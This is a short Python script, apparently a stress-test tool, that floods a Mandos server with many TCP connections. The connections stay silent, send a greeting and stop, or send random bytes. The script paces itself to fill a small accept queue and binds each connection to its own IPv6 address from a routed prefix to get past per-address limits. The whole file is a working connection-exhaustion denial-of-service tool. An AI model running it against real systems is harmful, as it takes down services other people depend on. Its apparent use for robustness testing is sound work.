#!/usr/bin/python3
"""Opens many connections to a Mandos server and does it no good with them, until it is ended.

usage: flood.py ADDRESS PORT BEHAVIOUR COUNT PACE [PREFIX]

  silent    says nothing
  greeting  sends the greeting, then nothing
  garbage   sends the greeting, and random bytes to whatever answers
  nonsense  sends random bytes at once
  restless  sends the greeting, ends the connection when something comes, and opens the next one

No more than PACE are begun in a second, so that a server with a small queue (the original's has 5 places) takes them all.
With PREFIX, an IPv6 prefix of 64 bits that is routed here (fd00:2::), each connection comes from an address of its own. One
that the server ends is replaced by the next. Says `open N` on standard error when COUNT have been opened, or when no more
can be had for two seconds; N are open then.
"""
import errno
import os
import resource
import select
import socket
import sys
import time

address, port, behaviour, wanted = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
pace = float(sys.argv[5])
prefix = sys.argv[6] if len(sys.argv) > 6 else None
family = socket.AF_INET6 if ":" in address else socket.AF_INET
hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
IPV6_FREEBIND = 78
poll = select.epoll()
sockets, connected, number = {}, set(), 0


def begin():
    global number
    number += 1
    connection = socket.socket(family, socket.SOCK_STREAM)
    connection.setblocking(False)
    if prefix:
        connection.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
        connection.bind((f"{prefix}{number // 65536 + 1:x}:{number % 65536:x}", 0))
    if connection.connect_ex((address, port)) not in (0, errno.EINPROGRESS):
        connection.close()
        return
    sockets[connection.fileno()] = connection
    poll.register(connection, select.EPOLLOUT)


def end(file):
    poll.unregister(file)
    connected.discard(file)
    sockets.pop(file).close()


def speak(file):
    """The connection stands."""
    connected.add(file)
    poll.modify(file, select.EPOLLIN)
    if behaviour == "nonsense":
        sockets[file].send(os.urandom(1000))
    elif behaviour != "silent":
        sockets[file].send(b"1\r\n")


def answer(file):
    """Something came, or the end."""
    if not sockets[file].recv(65536) or behaviour == "restless":
        end(file)
    elif behaviour == "garbage":
        sockets[file].send(os.urandom(1000))


said, opened, began = False, time.monotonic(), time.monotonic()
while True:
    # Not all at once, so that the ends of others are seen in between.
    due = int((time.monotonic() - began) * pace) + 1 - number
    for _ in range(max(0, min(200, wanted - len(sockets), due))):
        begin()
    for file, event in poll.poll(0.01):
        try:
            if file not in connected and event & select.EPOLLOUT and not event & (select.EPOLLERR | select.EPOLLHUP):
                speak(file)
                opened = time.monotonic()
            else:
                answer(file)
        except OSError:
            end(file)
    if not said and (len(connected) >= wanted or number >= wanted + 100 or time.monotonic() - opened > 2):
        said = True
        print(f"open {len(connected)}", file=sys.stderr, flush=True)
